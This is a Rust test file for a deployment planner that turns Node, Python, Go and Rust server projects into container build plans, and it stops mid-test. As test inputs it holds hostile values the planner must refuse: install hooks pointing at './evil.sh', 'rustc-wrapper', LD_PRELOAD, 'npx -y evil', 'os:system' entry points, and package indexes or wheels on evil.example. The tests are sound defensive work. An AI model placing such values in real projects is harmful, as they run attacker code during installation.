//! Which plan comes of which tree, and what is refused.

use std::collections::BTreeMap;

use proptest::prelude::*;
use sigyl_core::Manifest;
use sigyl_deploy::plan::{
    BaseImage, Bridge, ContextError, ContextFile, DockerfileOptions, FileBytes, FolderBytes, PhaseName,
    PlanError, PlanOptions, Stage, Unlocked, plan,
};

use crate::support::{cleared, example, plan_of, plan_tree, refused, tree};

const SERVER: &str = "const t = new StdioServerTransport(); // from mcp";
const LOCK: &str = r#"{"lockfileVersion": 3, "packages": {"": {}, "node_modules/a": {"version": "1.0.0", "integrity": "sha512-x"}}}"#;

fn commands(files: &[(&str, &str)]) -> Vec<String> {
    let plan = plan_of(files);
    plan.phases.iter().flat_map(|phase| phase.commands.iter().map(|command| command.join(" "))).collect()
}

#[test]
fn another_tree_is_not_planned() {
    let scanned = tree(None, &[("index.js", SERVER)]);
    let other = tree(None, &[("index.js", "evil()")]);
    let error = plan(&cleared(&scanned), &other, &Manifest::default(), &PlanOptions::default()).unwrap_err();
    assert!(matches!(error, PlanError::NotScanned { .. }), "{error}");
}

#[test]
fn package_managers() {
    let package = r#"{"name": "s", "main": "index.js", "dependencies": {"a": "1"}, "packageManager": "pnpm@9.1.2+sha512.00"}"#;
    let tools = "npm install --prefix .sigyl/tools --ignore-scripts --no-audit --no-fund --no-save";
    let with =
        |lock: &str, text: &str| commands(&[("package.json", package), ("index.js", SERVER), (lock, text)]);
    assert_eq!(with("package-lock.json", LOCK), ["npm ci --ignore-scripts --no-audit --no-fund --omit=dev"]);
    assert_eq!(
        with("npm-shrinkwrap.json", LOCK),
        ["npm ci --ignore-scripts --no-audit --no-fund --omit=dev"]
    );
    assert_eq!(
        with("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
        [
            format!("{tools} pnpm@9.1.2"),
            "pnpm install --frozen-lockfile --ignore-scripts --ignore-pnpmfile --prod".to_owned(),
            "rm -rf .sigyl/tools".to_owned(),
        ]
    );
    assert_eq!(
        with("yarn.lock", "# yarn lockfile v1\n"),
        [
            format!("{tools} yarn@1.22.22"),
            "yarn install --frozen-lockfile --ignore-scripts --non-interactive --production".to_owned(),
            "rm -rf .sigyl/tools".to_owned(),
        ]
    );
    assert_eq!(
        with("yarn.lock", "# lock\n\n__metadata:\n  version: 8\n"),
        [
            format!("{tools} @yarnpkg/cli-dist@4.10.3"),
            "yarn workspaces focus --production".to_owned(),
            "rm -rf .sigyl/tools".to_owned(),
        ]
    );
}

#[test]
fn a_build_has_no_network_and_developers_packages_go() {
    let package =
        r#"{"name": "s", "main": "dist/index.js", "scripts": {"build": "tsc"}, "dependencies": {"a": "1"}}"#;
    let plan = plan_of(&[("package.json", package), ("src/index.ts", SERVER), ("package-lock.json", LOCK)]);
    let phases: Vec<_> = plan.phases.iter().map(|phase| (phase.name, phase.network)).collect();
    assert_eq!(phases, [(PhaseName::Install, true), (PhaseName::Build, false), (PhaseName::Prune, false)]);
    assert_eq!(plan.start, ["node", "dist/index.js"]);
    assert_eq!(
        plan.stages(),
        [Stage { target: "install", network: true }, Stage { target: "run", network: false }]
    );
    let second = plan.dockerfile(&DockerfileOptions {
        prepared: Some("sigyl/x:install".to_owned()),
        ..DockerfileOptions::default()
    });
    assert!(second.starts_with("FROM sigyl/x:install AS build\n"), "{second}");
    assert!(!second.contains("npm\", \"ci"), "{second}");
}

/// Also those of an author's own Dockerfile.
#[test]
fn stages_begin_with_the_labels_that_an_engine_wants() {
    let package = r#"{"name": "s", "main": "index.js", "dependencies": {"a": "1"}}"#;
    let made = plan_of(&[("package.json", package), ("index.js", SERVER), ("package-lock.json", LOCK)]);
    let own = "FROM node:22-slim AS made\nRUN echo '\\\nFROM x'\nFROM made\nCOPY . /srv\nCMD [\"node\", \"/srv/index.js\"]\n";
    let manifest = "name: s\nruntime: container\ntransport: stdio\nbuild: { dockerfile: Dockerfile }\n";
    let wrapped = plan_of(&[("Dockerfile", own), ("index.js", SERVER), ("mcp.yaml", manifest)]);
    for (plan, stages) in [(made, 2), (wrapped, 3)] {
        let plain = plan.dockerfile(&DockerfileOptions::default());
        let stage_labels = [("sigyl.build".to_owned(), "a/b".to_owned())].into();
        let labelled = plan.dockerfile(&DockerfileOptions { stage_labels, ..DockerfileOptions::default() });
        let label = "LABEL sigyl.build=\"a/b\"";
        let lines: Vec<_> = labelled.lines().collect();
        let begun = lines.windows(2).filter(|two| two[0].starts_with("FROM ") && two[1] == label).count();
        assert_eq!(
            (begun, lines.iter().filter(|line| **line == label).count()),
            (stages, stages),
            "{labelled}"
        );
        assert_eq!(labelled.replace(&format!("{label}\n"), ""), plain);
    }
}

#[test]
fn scripts_run_by_name() {
    let package = r#"{"name": "s", "main": "index.js", "dependencies": {"a": "1"}}"#;
    let manifest =
        "name: s\nruntime: node\ntransport: stdio\nbuild: { scripts_allowed: [esbuild, '@a/b'] }\n";
    let files = [
        ("package.json", package),
        ("index.js", SERVER),
        ("package-lock.json", LOCK),
        ("mcp.yaml", manifest),
    ];
    let plan = plan_of(&files);
    assert_eq!(plan.phases[1].name, PhaseName::Scripts);
    assert_eq!(
        plan.phases[1].commands[0].join(" "),
        "npm rebuild --ignore-scripts=false --foreground-scripts esbuild @a/b"
    );
    assert!(plan.decisions.iter().any(|decision| decision.code == "scripts-allowed"));
    let manifest = "name: s\nruntime: node\ntransport: stdio\nbuild: { scripts_allowed: ['--prefix=/'] }\n";
    let files = [
        ("package.json", package),
        ("index.js", SERVER),
        ("package-lock.json", LOCK),
        ("mcp.yaml", manifest),
    ];
    assert_eq!(refused(&files), ["no-package-name mcp.yaml:1"]);
}

#[test]
fn start_commands_of_node() {
    let start = |package: &str| {
        plan_of(&[
            ("package.json", package),
            ("index.js", SERVER),
            ("src/a.js", ""),
            ("package-lock.json", LOCK),
        ])
        .start
    };
    assert_eq!(start(r#"{"main": "index.js"}"#), ["node", "index.js"]);
    assert_eq!(start(r#"{"bin": "./src/a.js", "main": "index.js"}"#), ["node", "src/a.js"]);
    assert_eq!(
        start(r#"{"scripts": {"start": "NODE_ENV=production node --enable-source-maps src/a.js"}}"#),
        ["node", "--enable-source-maps", "src/a.js"]
    );
    assert_eq!(
        start(
            r#"{"scripts": {"start": "npm run serve", "serve": "tsx src/a.js"}, "dependencies": {"tsx": "4"}}"#
        ),
        ["tsx", "src/a.js"]
    );
    assert_eq!(start("{}"), ["node", "index.js"]);
    let refused =
        |package: &str| refused(&[("package.json", package), ("x.js", SERVER), ("package-lock.json", LOCK)]);
    assert_eq!(
        refused(r#"{"scripts": {"start": "tsc && node x.js"}}"#),
        ["start-needs-shell package.json:1"]
    );
    assert_eq!(refused(r#"{"scripts": {"start": "npm start"}}"#), ["start-not-possible package.json:1"]);
    assert_eq!(
        refused(r#"{"scripts": {"start": "tsx x.js"}, "devDependencies": {"tsx": "4"}}"#),
        ["start-not-possible package.json:1"]
    );
    assert_eq!(
        refused(r#"{"main": "dist/index.js", "bin": {"s": "dist/index.js"}}"#),
        ["entry-point-missing package.json:1"]
    );
    assert_eq!(refused(r#"{"scripts": {"start": "npx -y evil"}}"#), ["start-not-possible package.json:1"]);
    assert_eq!(refused(r#"{"scripts": {"start": "/bin/sh x"}}"#), ["start-not-possible package.json:1"]);
    assert_eq!(refused("{}"), ["no-start package.json:1"]);
}

#[test]
fn nothing_is_installed_that_nothing_locks() {
    let package = r#"{"name": "s", "main": "index.js", "dependencies": {"a": "^1"}}"#;
    let files = [("package.json", package), ("index.js", SERVER)];
    assert_eq!(refused(&files), ["no-lock-file package.json:1"]);
    let allowed = PlanOptions { unlocked: Unlocked::Allow, ..PlanOptions::default() };
    let plan = plan_tree(&tree(None, &files), &allowed).unwrap();
    assert!(plan.decisions.iter().any(|decision| decision.code == "not-locked"));
    assert!(plan_tree(&tree(Some("npm:s@1.0.0"), &files), &PlanOptions::default()).is_ok());
    let bun = [("package.json", package), ("index.js", SERVER), ("bun.lock", "{}")];
    assert_eq!(refused(&bun), ["no-lock-file bun.lock:1"]);
}

#[test]
fn what_is_wrong_in_mcp_yaml_is_mended_first() {
    let package = ("package.json", r#"{"name": "s", "main": "index.js"}"#);
    let of = |manifest: &str| refused(&[package, ("index.js", SERVER), ("mcp.yaml", manifest)]);
    assert_eq!(of("name: s\nversion: latest\ntransport: http\n"), ["invalid-value mcp.yaml:2"]);
    // What another file says wrongly was not written for this.
    let listed = ("server.json", r#"{"name": "a/s", "description": "d", "version": "latest"}"#);
    let files = [package, ("index.js", SERVER), listed, ("mcp.yaml", "name: s\ntransport: http\n")];
    assert!(plan_tree(&tree(None, &files), &PlanOptions::default()).is_ok());
}

#[test]
fn the_tree_runs_nothing_while_it_is_installed() {
    let package = r#"{"name": "s", "main": "index.js", "dependencies": {"a": "1"}}"#;
    let with = |path: &str, text: &str| {
        refused(&[("package.json", package), ("index.js", SERVER), ("package-lock.json", LOCK), (path, text)])
    };
    assert_eq!(
        with(".npmrc", "registry=https://r.example/\ngit=./evil.sh\n"),
        ["settings-not-allowed .npmrc:2"]
    );
    assert_eq!(with(".npmrc", "//r.example/:_authToken=npm_abc\n"), ["settings-not-allowed .npmrc:1"]);
    assert_eq!(with(".pnpmfile.cjs", "evil()"), ["settings-run-code .pnpmfile.cjs:1"]);
    assert_eq!(with(".yarnrc.yml", "plugins:\n  - ./evil.cjs\n"), ["settings-run-code .yarnrc.yml:2"]);
    assert_eq!(with(".sigyl/requirements.txt", "evil"), ["folder-reserved .sigyl/requirements.txt:1"]);
    let git = r#"{"lockfileVersion": 3, "packages": {
        "node_modules/a": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/a/b.git#0"},
        "node_modules/b": {"resolved": "../outside", "link": true}}}"#;
    let files = [("package.json", package), ("index.js", SERVER), ("package-lock.json", git)];
    assert_eq!(
        refused(&files),
        ["dependency-not-allowed package-lock.json:2", "dependency-not-allowed package-lock.json:3"]
    );
}

const PYTHON: &str = "from mcp.server.stdio import stdio_server\nstdio_server()\n";

#[test]
fn lock_files_of_python() {
    let project = "[project]\nname = \"s\"\nrequires-python = \">=3.11\"\ndependencies = [\"a[x]\", \"w\"]\n";
    let hash = |digit: &str| format!("sha256:{}", digit.repeat(64));
    let list = |lock: &str, text: &str| {
        let plan = plan_of(&[("pyproject.toml", project), ("server.py", PYTHON), (lock, text)]);
        assert!(plan.phases[0].commands[1].join(" ").contains("--only-binary :all: --require-hashes"));
        plan.generated[0].text.clone()
    };
    let uv = format!(
        r#"version = 1
[[package]]
name = "a"
version = "1.0"
source = {{ registry = "https://pypi.org/simple" }}
dependencies = [{{ name = "b", marker = "python_full_version < '3.13'" }}]
sdist = {{ url = "https://x/a.tar.gz", hash = "{1}" }}
wheels = [{{ url = "https://x/a.whl", hash = "{0}" }}]
[package.optional-dependencies]
x = [{{ name = "b", marker = "sys_platform == 'linux'" }}, {{ name = "c" }}]
[[package]]
name = "b"
version = "2.0"
source = {{ registry = "https://pypi.org/simple" }}
wheels = [{{ url = "https://x/b.whl", hash = "{0}" }}]
[[package]]
name = "c"
version = "3.0"
source = {{ registry = "https://pypi.org/simple" }}
dependencies = [{{ name = "a" }}]
wheels = [{{ url = "https://x/c.whl", hash = "{0}" }}]
[[package]]
name = "dev"
version = "3.0"
source = {{ git = "https://x/dev" }}
[[package]]
name = "s"
version = "0"
source = {{ virtual = "." }}
dependencies = [{{ name = "a", extra = ["x"] }}, {{ name = "w", marker = "sys_platform == 'win32'" }}]
[package.dev-dependencies]
dev = [{{ name = "dev" }}]
[[package]]
name = "w"
version = "4.0"
source = {{ registry = "https://pypi.org/simple" }}
wheels = [{{ url = "https://x/w.whl", hash = "{0}" }}]
"#,
        hash("0"),
        hash("1")
    );
    let (zero, one) = (hash("0"), hash("1"));
    assert_eq!(
        list("uv.lock", &uv),
        format!(
            "a==1.0 \\\n    --hash={zero} \\\n    --hash={one}\n\
             b==2.0 ; (python_full_version < '3.13') or (sys_platform == 'linux') \\\n    --hash={zero}\n\
             c==3.0 \\\n    --hash={zero}\n\
             w==4.0 ; sys_platform == 'win32' \\\n    --hash={zero}\n"
        )
    );
    let poetry = format!(
        "[[package]]\nname = \"a\"\nversion = \"1.0\"\noptional = false\ngroups = [\"main\"]\nmarkers = \"python_version < '3.13'\"\nfiles = [{{file = \"a.whl\", hash = \"{zero}\"}}]\n\
         [[package]]\nname = \"d\"\nversion = \"1.0\"\noptional = false\ngroups = [\"dev\"]\nfiles = []\n[metadata]\nlock-version = \"2.1\"\n"
    );
    assert_eq!(
        list("poetry.lock", &poetry),
        format!("a==1.0 ; python_version < '3.13' \\\n    --hash={zero}\n")
    );
    let pylock = format!(
        "lock-version = \"1.0\"\n[[packages]]\nname = \"a\"\nversion = \"1.0\"\nwheels = [{{url = \"u\", hashes = {{sha256 = \"{}\"}}}}]\n",
        "0".repeat(64)
    );
    assert_eq!(list("pylock.toml", &pylock), format!("a==1.0 \\\n    --hash={zero}\n"));
    let pipfile = format!(
        r#"{{"default": {{"a": {{"version": "==1.0", "hashes": ["{zero}"], "markers": "python_version >= '3.8'"}}}}, "develop": {{}}}}"#
    );
    assert_eq!(
        list("Pipfile.lock", &pipfile),
        format!("a==1.0 ; python_version >= '3.8' \\\n    --hash={zero}\n")
    );

    let old = "[[package]]\nname = \"a\"\nversion = \"1.0\"\n[metadata]\nlock-version = \"1.1\"\n";
    assert_eq!(
        refused(&[("pyproject.toml", project), ("server.py", PYTHON), ("poetry.lock", old)]),
        ["lock-not-usable poetry.lock:2"]
    );
    let git = "[[package]]\nname = \"s\"\nsource = { virtual = \".\" }\ndependencies = [{ name = \"g\" }]\n[[package]]\nname = \"g\"\nversion = \"1\"\nsource = { git = \"https://x\" }\n";
    assert_eq!(
        refused(&[("pyproject.toml", project), ("server.py", PYTHON), ("uv.lock", git)]),
        ["dependency-not-allowed uv.lock:6"]
    );
}

#[test]
fn requirements_are_rewritten_without_their_options() {
    let text = format!(
        "--index-url https://evil.example/\n--no-binary :all:\na==1.0 \\\n  --hash=sha256:{} # note\n",
        "0".repeat(64)
    );
    let plan = plan_of(&[("requirements.txt", &text), ("server.py", PYTHON)]);
    assert_eq!(plan.generated[0].text, format!("a==1.0 \\\n    --hash=sha256:{}\n", "0".repeat(64)));
    let list = |text: &str| refused(&[("requirements.txt", text), ("server.py", PYTHON)]);
    assert_eq!(list("a>=1\n"), ["no-lock-file requirements.txt:1"]);
    assert_eq!(list("a==1\n-e ./other\n"), ["dependency-not-allowed requirements.txt:2"]);
    assert_eq!(
        list("a==1\n\nb @ https://evil.example/b.whl\n"),
        ["dependency-not-allowed requirements.txt:3"]
    );
    let pinned = plan_of(&[("requirements.txt", "a==1\n"), ("server.py", PYTHON)]);
    assert!(pinned.decisions.iter().any(|decision| decision.code == "no-hashes"));
    assert!(!pinned.phases[0].commands[1].contains(&"--require-hashes".to_owned()));
}

#[test]
fn start_commands_of_python() {
    let requirements = ("requirements.txt", "a==1\n");
    let with = |files: &[(&str, &str)]| {
        let files: Vec<_> = files.iter().copied().chain([requirements]).collect();
        plan_of(&files)
    };
    let system = "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n";
    let project = "[project]\nname = \"my-server\"\nscripts = { my-server = \"my_server:main\" }\n";
    let installed =
        with(&[("pyproject.toml", &format!("{project}{system}")), ("src/my_server/__init__.py", PYTHON)]);
    assert_eq!(installed.start, ["my-server"]);
    let names: Vec<_> = installed.phases.iter().map(|phase| phase.name).collect();
    assert_eq!(names, [PhaseName::Install, PhaseName::Build, PhaseName::Prune]);
    assert_eq!(installed.generated[1].text, "hatchling\n");
    assert!(installed.phases[1].commands.iter().all(|command| command.contains(&"--no-index".to_owned())));
    let plain = with(&[("pyproject.toml", project), ("my_server/__init__.py", PYTHON)]);
    assert_eq!(plain.start, ["python", "-c", "import sys; from my_server import main; sys.exit(main())"]);
    assert_eq!(with(&[("main.py", PYTHON)]).start, ["python", "main.py"]);
    let manifest = "name: s\nruntime: python\ntransport: http\nport: 8000\nbuild: { start: [uv, run, uvicorn, 's:app'] }\n";
    let plan = with(&[("mcp.yaml", manifest), ("s.py", PYTHON)]);
    assert_eq!((plan.start.join(" "), plan.port, plan.bridge), ("uvicorn s:app".to_owned(), 8000, None));
    let evil = "[project]\nname = \"s\"\nscripts = { s = \"os:system('x')\" }\n";
    assert_eq!(
        refused(&[("pyproject.toml", evil), ("x.py", PYTHON), requirements]),
        ["no-start pyproject.toml:1"]
    );
    assert_eq!(refused(&[("x.py", PYTHON), requirements]), ["no-start pyproject.toml:1"]);
}

#[test]
fn programs() {
    let manifest = ("mcp.yaml", "name: s\ntransport: stdio\nstateless: true\n");
    let go = [
        ("go.mod", "module example.com/s\n\ngo 1.23\n\nrequire a.example/b v1.0.0\n"),
        ("go.sum", "a.example/b v1.0.0 h1:x\n"),
        ("cmd/s/main.go", "package main\n"),
        ("cmd/tool/main.go", "package main\n"),
        ("lib.go", "package s\n"),
        manifest,
    ];
    let plan = plan_of(&go);
    assert_eq!((plan.planner.as_str(), plan.bridge), ("go", Some(Bridge::Shared)));
    assert_eq!(plan.phases[1].commands[0].last().unwrap(), "./cmd/s");
    assert_eq!(plan.keep, [".sigyl/server"]);
    let rust = [
        ("Cargo.toml", "[package]\nname = \"s\"\nversion = \"1.0.0\"\n"),
        ("Cargo.lock", ""),
        ("src/main.rs", ""),
        manifest,
    ];
    let plan = plan_of(&rust);
    assert_eq!(plan.start, ["./.sigyl/server"]);
    let steered =
        [rust[0], rust[1], rust[2], rust[3], (".cargo/config.toml", "[build]\nrustc-wrapper = \"./evil\"\n")];
    assert_eq!(refused(&steered), ["settings-run-code .cargo/config.toml:1"]);
    assert_eq!(refused(&[go[0], go[2], manifest]), ["no-lock-file go.mod:1"]);
}

#[test]
fn variables_and_secrets() {
    let manifest = "name: s\nruntime: node\ntransport: http\nport: 3000\nsecrets:\n  - name: API_KEY\n    description: d\n    required: true\n    type: string\n    injection: { method: environment, name: API_KEY }\n  - name: T\n    description: d\n    required: true\n    type: string\n    injection: { method: header, name: X-T }\n";
    let smithery = "runtime: typescript\nenv:\n  FORCE_HTTPS: \"false\"\n  LOG: \"$HOME \\\"x\\\"\"\n";
    let plan = plan_of(&[
        ("package.json", "{}"),
        ("index.js", ""),
        ("mcp.yaml", manifest),
        ("smithery.yaml", smithery),
    ]);
    let env: Vec<String> = plan.env.iter().map(|(name, value)| format!("{name}={value}")).collect();
    assert_eq!(
        env,
        [
            "PORT=3000",
            "MCP_TRANSPORT=http",
            "MCP_ENDPOINT=/mcp",
            "HOST=0.0.0.0",
            "NODE_ENV=production",
            "FORCE_HTTPS=false",
            "LOG=$HOME \"x\""
        ]
    );
    let https: Vec<String> =
        plan.https_env().into_iter().map(|(name, value)| format!("{name}={value}")).collect();
    assert_eq!(https, ["SESSION_SECURE=true", "SESSION_SAME_SITE=strict", "REQUIRE_TOKEN_VALIDATION=true"]);
    assert_eq!(plan.secrets.len(), 1);
    assert!(plan.dockerfile(&DockerfileOptions::default()).contains("ENV LOG=\"\\$HOME \\\"x\\\"\"\n"));
    let evil = "runtime: typescript\nenv:\n  LD_PRELOAD: \"/app/x.so\"\n";
    let files = [("package.json", "{}"), ("index.js", ""), ("mcp.yaml", manifest), ("smithery.yaml", evil)];
    assert_eq!(refused(&files), ["variable-not-allowed mcp.yaml:1"]);
}

#[test]
fn images_are_the_deployers() {
    let digest = format!("sha256:{}", "0".repeat(64));
    let files = [("package.json", "{}"), ("index.js", SERVER)];
    let mut options = PlanOptions::default();
    options.digests.insert("node:22-slim".to_owned(), digest.clone());
    let plan = plan_tree(&tree(None, &files), &options).unwrap();
    assert_eq!(
        plan.run_image,
        BaseImage { reference: "node:22-slim".to_owned(), digest: Some(digest.clone()) }
    );
    assert!(
        plan.dockerfile(&DockerfileOptions::default())
            .contains(&format!("FROM node:22-slim@{digest} AS run\n"))
    );
    options.images.insert("node:22-slim".to_owned(), format!("registry.example:5000/node@{digest}"));
    let plan = plan_tree(&tree(None, &files), &options).unwrap();
    assert_eq!(plan.run_image.reference, "registry.example:5000/node");
}

#[test]
fn options_of_the_dockerfile() {
    let files = [
        ("package.json", r#"{"dependencies": {"a": "1"}}"#),
        ("index.js", SERVER),
        ("package-lock.json", LOCK),
    ];
    let options = DockerfileOptions {
        ca_bundle: true,
        build_env: [("npm_config_registry".to_owned(), "https://mirror.example/".to_owned())]
            .into_iter()
            .collect(),
        prepared: None,
        ..DockerfileOptions::default()
    };
    let text = plan_of(&files).dockerfile(&options);
    assert_eq!(text.matches("ENV NODE_EXTRA_CA_CERTS=\"/sigyl/ca.crt\"\n").count(), 2, "{text}");
    assert_eq!(text.matches("mirror.example").count(), 1, "{text}");
    assert!(!text.contains("# syntax") && !text.starts_with('#'));
}

#[test]
fn build_secrets_come_to_the_installation_alone() {
    let manifest = "name: s\nruntime: node\ntransport: stdio\nbuild: { scripts_allowed: [esbuild], secrets: [NPM_TOKEN] }\n";
    let files = [
        (
            "package.json",
            r#"{"name": "s", "main": "index.js", "scripts": {"build": "x"}, "dependencies": {"a": "1"}}"#,
        ),
        ("index.js", SERVER),
        ("package-lock.json", LOCK),
        (".npmrc", "@acme:registry=https://npm.acme.example/\n//npm.acme.example/:_authToken=${NPM_TOKEN}\n"),
        ("mcp.yaml", manifest),
    ];
    let plan = plan_of(&files);
    assert_eq!((plan.build_secrets.as_slice(), &plan.private_to), (&["NPM_TOKEN".to_owned()][..], &None));
    let text = plan.dockerfile(&DockerfileOptions::default());
    let mount = "RUN --mount=type=secret,id=NPM_TOKEN,required=true [\"/bin/sh\", \"-c\", \"set -e; \
                 NPM_TOKEN=\\\"$(cat /run/secrets/NPM_TOKEN)\\\"; export NPM_TOKEN; exec \\\"$@\\\"\", \"sh\", \"npm\", \"ci\"";
    assert!(text.contains(mount), "{text}");
    assert_eq!((text.matches("--mount").count(), text.matches("/bin/sh").count()), (1, 1), "{text}");
    assert!(
        text.contains("RUN [\"npm\", \"rebuild\"") && text.contains("RUN [\"npm\", \"run\", \"build\"]"),
        "{text}"
    );
    let prepared = DockerfileOptions { prepared: Some("x:1".to_owned()), ..DockerfileOptions::default() };
    assert!(!plan.dockerfile(&prepared).contains("NPM_TOKEN"));

    // What is built with them is for one deployment.
    let of = |name: &str| PlanOptions { deployment: Some(name.to_owned()), ..PlanOptions::default() };
    let (one, other) = (
        plan_tree(&tree(None, &files), &of("a")).unwrap(),
        plan_tree(&tree(None, &files), &of("b")).unwrap(),
    );
    assert_eq!(one.private_to.as_deref(), Some("a"));
    assert_ne!(one.digest(), other.digest());
    let plain = [files[0], files[1], files[2], ("mcp.yaml", "name: s\nruntime: node\ntransport: stdio\n")];
    let (one, other) = (
        plan_tree(&tree(None, &plain), &of("a")).unwrap(),
        plan_tree(&tree(None, &plain), &of("b")).unwrap(),
    );
    assert_eq!((one.digest(), one.private_to), (other.digest(), None));

    // Names that the build needs itself, or that are none.
    let bare = [("index.js", SERVER), ("package.json", r#"{"name": "s", "main": "index.js"}"#)];
    let with =
        |names: &str| format!("name: s\nruntime: node\ntransport: stdio\nbuild: {{ secrets: [{names}] }}\n");
    for name in ["PATH", "LD_PRELOAD", "HOME"] {
        let manifest = with(name);
        assert_eq!(
            refused(&[bare[0], bare[1], ("mcp.yaml", &manifest)]),
            ["variable-not-allowed mcp.yaml:1"]
        );
    }
    for (names, code) in [("A-B", "invalid-value"), ("'A B'", "invalid-value"), ("A, A", "duplicate-name")] {
        let manifest = with(names);
        assert_eq!(refused(&[bare[0], bare[1], ("mcp.yaml", &manifest)]), [format!("{code} mcp.yaml:4")]);
    }
}

/// Whatever tool a project uses, pip gets its index with names where credentials go.
#[test]
fn private_indexes_of_python() {
    let hash = format!("sha256:{}", "0".repeat(64));
    let uv = format!(
        "[[package]]\nname = \"a\"\nversion = \"1\"\nsource = {{ registry = \"https://x\" }}\nwheels = [{{ url = \"u\", hash = \"{hash}\" }}]\n\
         [[package]]\nname = \"s\"\nsource = {{ virtual = \".\" }}\ndependencies = [{{ name = \"a\" }}]\n"
    );
    // Options of the list, how pip is started, and what is said.
    let with = |secrets: &str, files: &[(&str, &str)]| {
        let manifest =
            format!("name: s\nruntime: python\ntransport: stdio\nbuild: {{ secrets: [{secrets}] }}\n");
        let mut all = vec![("server.py", PYTHON), ("mcp.yaml", manifest.as_str())];
        all.extend(files);
        let plan = plan_of(&all);
        let codes = plan.decisions.iter().map(|it| it.code.as_str());
        let codes =
            codes.filter(|it| it.contains("index") || it.contains("secrets") || *it == "setting-not-used");
        let options = plan.generated[0].text.lines().filter(|line| line.starts_with("--"));
        let install = &plan.phases[0];
        assert_eq!(install.files.contains(&".sigyl/pip.py".to_owned()), plan.generated.len() == 2);
        let start = install.commands[1][2..4].join(" ");
        (options.collect::<Vec<_>>().join("\n"), start, codes.collect::<Vec<_>>().join(" "))
    };
    let index = "[project]\nname = \"s\"\nversion = \"1\"\ndependencies = [\"a\"]\n\
                 [[tool.uv.index]]\nname = \"acme-x\"\nurl = \"https://robot@pkg.acme.example/simple\"\n\
                 [[tool.uv.index]]\nname = \"open\"\nurl = \"https://open.example/simple\"\n";
    let of_uv =
        |secrets: &str, project: &str| with(secrets, &[("pyproject.toml", project), ("uv.lock", &uv)]);
    let (options, start, codes) = of_uv("UV_INDEX_ACME_X_PASSWORD", index);
    assert_eq!(
        options,
        "--extra-index-url https://robot:${UV_INDEX_ACME_X_PASSWORD}@pkg.acme.example/simple"
    );
    assert_eq!((start.as_str(), codes.as_str()), (".sigyl/pip.py UV_INDEX_ACME_X_PASSWORD", ""));
    let (options, start, _) = of_uv("UV_INDEX_ACME_X_USERNAME, UV_INDEX_ACME_X_PASSWORD", index);
    assert_eq!(
        options,
        "--extra-index-url https://${UV_INDEX_ACME_X_USERNAME}:${UV_INDEX_ACME_X_PASSWORD}@pkg.acme.example/simple"
    );
    assert_eq!(start, ".sigyl/pip.py UV_INDEX_ACME_X_PASSWORD,UV_INDEX_ACME_X_USERNAME");
    // One of another name, and one that has its password in plain sight.
    let said = |(options, start, codes): &(String, String, String)| format!("{options}|{start}|{codes}");
    assert_eq!(said(&of_uv("UV_INDEX_OTHER_PASSWORD", index)), "|-m pip|build-secrets-not-used");
    let plain = index.replace("robot@", "robot:plain@");
    assert_eq!(
        said(&of_uv("UV_INDEX_ACME_X_PASSWORD", &plain)),
        "|-m pip|index-not-used build-secrets-not-used"
    );
    // Addresses as variables.
    assert_eq!(said(&of_uv("UV_INDEX", index)), "|.sigyl/pip.py |");
    assert_eq!(said(&of_uv("PIP_INDEX_URL", index)), "|-m pip|");

    let poetry = "[tool.poetry]\nname = \"s\"\n[[tool.poetry.source]]\nname = \"acme\"\nurl = \"https://pkg.acme.example/simple/\"\n";
    let lock = format!(
        "[[package]]\nname = \"a\"\nversion = \"1.0\"\noptional = false\ngroups = [\"main\"]\nfiles = [{{file = \"a.whl\", hash = \"{hash}\"}}]\n"
    );
    let names = "POETRY_HTTP_BASIC_ACME_USERNAME, POETRY_HTTP_BASIC_ACME_PASSWORD";
    let (options, _, codes) = with(names, &[("pyproject.toml", poetry), ("poetry.lock", &lock)]);
    assert_eq!(
        options,
        "--extra-index-url https://${POETRY_HTTP_BASIC_ACME_USERNAME}:${POETRY_HTTP_BASIC_ACME_PASSWORD}@pkg.acme.example/simple/"
    );
    assert_eq!(codes, "");

    // What a file says without a secret is not followed; with one, and no hashes, what replaces all others does.
    let text = "-i https://${TOKEN}@pkg.acme.example/simple\n--extra-index-url https://open.example/\na==1\n";
    let of_pip = |secrets: &str, text: &str| said(&with(secrets, &[("requirements.txt", text)]));
    assert_eq!(
        of_pip("TOKEN", text),
        "--index-url https://${TOKEN}@pkg.acme.example/simple|-m pip|setting-not-used"
    );
    let text = text.replace("-i ", "--extra-index-url ");
    assert_eq!(
        of_pip("TOKEN", &text),
        "--extra-index-url https://${TOKEN}@pkg.acme.example/simple|-m pip|setting-not-used index-beside-another"
    );
    assert_eq!(of_pip("OTHER", &text), "|-m pip|setting-not-used setting-not-used");
}

#[test]
fn an_own_dockerfile_mounts_what_its_manifest_names() {
    let text = "FROM a:1\nRUN --mount=type=secret,id=NPM_TOKEN npm ci\n";
    let named = CONTAINER.replace("dockerfile: Dockerfile", "dockerfile: Dockerfile, secrets: [NPM_TOKEN]");
    let plan = own(text, &named).unwrap();
    assert_eq!(plan.build_secrets, ["NPM_TOKEN"]);
    let rendered = plan.dockerfile(&DockerfileOptions::default());
    assert!(rendered.contains("RUN --mount=type=secret,id=NPM_TOKEN npm ci\n"), "{rendered}");
    assert!(own(text, CONTAINER).is_err());
    let cached =
        "FROM a:1\nRUN --mount=type=secret,id=NPM_TOKEN --mount=type=cache,target=/root/.npm npm ci\n";
    assert!(own(cached, &named).is_err());
}

#[test]
fn the_context_is_the_tree() {
    let (path, tree) = example("weather-typescript");
    let plan = plan_tree(&tree, &PlanOptions::default()).unwrap();
    let folder = FolderBytes::open(&path).unwrap();
    let dockerfile = plan.dockerfile(&DockerfileOptions::default());
    let extra = [ContextFile { path: "Dockerfile", bytes: dockerfile.as_bytes(), executable: false }];
    let write = |bytes: &dyn FileBytes| {
        let mut out = Vec::new();
        plan.write_context(&tree, bytes, &extra, &mut out).map(|()| out)
    };
    let archive = write(&folder).unwrap();
    assert_eq!(archive, write(&folder).unwrap());
    let mut found = BTreeMap::new();
    for entry in tar::Archive::new(archive.as_slice()).entries().unwrap() {
        let mut entry = entry.unwrap();
        let header = entry.header().clone();
        assert_eq!((header.mtime().unwrap(), header.uid().unwrap(), header.gid().unwrap()), (0, 0, 0));
        assert_eq!(header.mode().unwrap(), 0o644);
        let mut text = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut text).unwrap();
        found.insert(entry.path().unwrap().to_str().unwrap().to_owned(), text);
    }
